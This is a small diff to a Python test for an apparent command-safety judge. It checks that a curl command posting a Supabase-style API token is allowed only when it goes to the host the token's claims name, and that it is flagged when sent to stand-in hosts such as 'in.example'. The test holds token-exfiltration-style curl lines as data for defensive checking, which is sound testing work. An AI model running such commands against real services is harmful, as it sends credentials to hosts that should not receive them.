@@ -339,12 +339,7 @@ def test_a_web_token_goes_to_the_place_that_its_claims_name() -> None:
     token = make_web_token({"iss": "supabase", "ref": "ebktoazswvtqsjrjryqk", "role": "anon"})
     line = f"curl -d apikey={token} https://"
     assert judge_line(f"{line}ebktoazswvtqsjrjryqk.supabase.co/rest/v1/x").effect == PASS
-    for place in (
-        "in.example",
-        "other.supabase.co",
-        "supabase.in.example",
-        "ebktoazswvtqsjrjryqk.co",
-    ):
+    for place in "in.example other.supabase.co supabase.in.example ebktoazswvtqsjrjryqk.co".split():
         assert judge_line(line + place).effect == ASK, place
 
 
